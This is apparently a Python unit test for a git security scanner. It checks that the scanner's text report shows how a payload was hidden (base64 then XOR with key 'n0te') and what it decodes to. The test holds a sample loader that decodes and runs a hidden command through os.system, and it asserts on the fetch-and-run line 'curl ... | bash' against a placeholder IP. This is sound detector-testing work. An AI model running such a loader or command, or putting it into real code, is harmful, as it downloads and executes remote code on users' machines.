"""The text view names how a payload was hidden beside what it decodes to."""

from __future__ import annotations

import base64

from hermes_git.guard.sarif import to_text
from hermes_git.guard.scanner import Report
from tests.helpers.ciphers import PAYLOADS, scan_file, xor


def test_a_decoded_finding_shows_its_chain_and_the_decoded_text() -> None:
    data = base64.b64encode(xor(PAYLOADS[0].encode(), b"n0te")).decode()
    text = (
        "import base64, os\n"
        f"raw = base64.b64decode('{data}')\n"
        'os.system(bytes(c ^ b"n0te"[i % 4] for i, c in enumerate(raw)).decode())\n'
    )
    shown = to_text(Report([scan_file("scripts/n.py", text)]))
    assert "decoded (base64>xor-key:'n0te'): raw = base64.b64decode(" in shown
    assert "=> curl -s http://203.0.113.5/p.sh | bash" in shown
